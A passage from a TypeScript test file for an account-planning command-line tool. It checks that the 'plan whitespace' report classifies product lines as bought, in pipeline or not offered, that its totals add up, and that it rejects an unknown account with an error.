      totals: { bought: Money; pipeline: Money; notOffered: Money };
      notInCatalog: string[];
    }>(["plan", "whitespace", plan.accountId]);
    expect(w.lines.length).toBeGreaterThan(0);
    // The demo declares the default catalog: Cloud is sold nowhere, and still a row, not offered.
    expect(w.lines.find((l) => l.line === "Cloud")).toMatchObject({ inCatalog: true, state: "not_offered" });
    expect(w.notInCatalog).toEqual([]);
    for (const l of w.lines) expect(["bought", "in_pipeline", "not_offered"]).toContain(l.state);
    const sum = (s: string) => w.lines.filter((l) => l.state === s).reduce((a, l) => a + l.atStake.amount, 0);
    expect(w.totals.bought.amount).toBe(sum("bought"));
    expect(w.totals.notOffered.amount).toBe(sum("not_offered"));
    const table = await run("plan", "whitespace", plan.accountId);
    expect(table.code).toBe(0);
    expect(table.stdout).toContain(`Whitespace of ${plan.accountId}`);
    expect(table.stdout).toMatch(/bought|in pipeline|not offered/);
  });

  it("refuses the whitespace of an account that does not exist, in words", async () => {
    const r = await run("plan", "whitespace", "no-such-account");
    expect(r.code).not.toBe(0);
    expect(r.stderr).toMatch(/no-such-account/);
  });
});
